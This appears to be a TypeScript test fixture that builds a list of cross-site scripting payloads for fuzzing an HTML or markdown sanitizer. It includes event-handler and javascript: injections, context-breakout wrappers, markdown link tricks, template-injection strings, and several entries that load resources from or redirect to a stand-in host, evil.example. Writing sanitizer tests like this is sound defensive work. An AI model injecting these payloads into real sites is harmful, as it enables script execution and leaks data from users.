/** Two hundred ways to bring a script into a page. Each would set `window.__xss`, or ask elsewhere. */
const RUN = 'window.__xss=1';

const elements = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>">`,
  `<iframe src="javascript:parent.__xss=1">`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/y)}</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
];

/** Around an element: to break out of its context, or to get past a filter. */
const around: ((element: string) => string)[] = [
  (element) => element,
  (element) => `">${element}`,
  (element) => `'>${element}`,
  (element) => `</textarea></title></style></script>${element}`,
  (element) => `--><!-->${element}`,
  (element) => element.replace(/<(\w)/g, (_, letter) => `<${letter.toUpperCase()}`),
  (element) => `\`\`\`\n\`\`\`${element}`,
];

const links = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:', '\u0001javascript:'];
const markdown = [
  ...links.flatMap((scheme) => [
    `[x](${scheme}${RUN})`,
    `[x](<${scheme}${RUN}>)`,
    `![x](${scheme}${RUN})`,
    `<${scheme}${RUN}>`,
    `[x][1]\n\n[1]: ${scheme}${RUN}`,
  ]),
  '![x](https://evil.example/x.png)',
  '[![x](https://evil.example/x.png)](https://evil.example)',
  '![x][1]\n\n[1]: https://evil.example/x.png',
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:${RUN})`,
  `[x](https://a.example" onmouseover="${RUN})`,
  `![x" onerror="${RUN}](x)`,
  `[x](https://a.example "title\\" onmouseover=\\"${RUN}")`,
  `<https://a.example/"onmouseover="${RUN}">`,
  `| a |\n|---|\n| <img src=x onerror="${RUN}"> |`,
  `- [x] <img src=x onerror="${RUN}">`,
  `[^1]\n\n[^1]: <img src=x onerror="${RUN}">`,
];

const strange = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `';${RUN};//`,
  `";${RUN};//`,
  '\u202egnp.exe',
  '\u0000<b>',
  '%3Cscript%3E',
  '&lt;script&gt;&#x3c;script&#x3e;',
  'javascript:window.__xss=1',
  '$&$1',
  '%s%n',
  '\ud83d\ude00'.repeat(50),
  '> '.repeat(3000),
  '['.repeat(3000),
  '*'.repeat(3000),
  '- '.repeat(2000),
];

export const payloads = [
  ...elements.flatMap((element) => around.map((wrap) => wrap(element))),
  ...markdown,
  ...strange,
  ...around.map((wrap) => wrap(`<marquee onstart="${RUN}">x</marquee>`)),
  ...around.map((wrap) => wrap(`<select onfocus="${RUN}" autofocus><option>x</select>`)),
];
